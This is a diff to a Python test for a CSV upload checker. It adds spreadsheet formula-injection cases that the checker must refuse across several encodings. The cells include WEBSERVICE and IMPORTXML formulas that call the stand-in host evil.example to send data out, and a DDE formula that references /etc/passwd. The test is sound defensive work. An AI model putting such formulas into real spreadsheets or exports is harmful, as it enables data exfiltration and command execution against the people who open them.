@@ -128,8 +128,14 @@ def test_a_table_that_asks_another_server() -> None:
         '@IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
         '-SERVICEWEB("https://evil.example/")',
         '+DDE("soffice";"/etc/passwd";"A1")',
+        f'=A1&"{"x" * 2_000}"&WEBSERVICE("https://evil.example/")',
     ):
-        for content in (f"naam;x\r\nAn;{cell}\r\n", f"{cell}\n", f"é{' ' * 300_000}\r\n{cell}\r\n"):
+        for content in (
+            f"naam;x\r\nAn;{cell}\r\n",
+            f"{cell}\n",
+            f"é{' ' * 300_000}\r\n{cell}\r\n",
+            "DDE(" * 1_500 + "\r\n" + "DDE(x)\n" * 1_500 + f"{cell}\r\n",
+        ):
             for encoding in ("utf-8", "utf-16", "latin-1"):
                 with pytest.raises(Refused) as refused:
                     judge(content.encode(encoding), "lijst.csv")
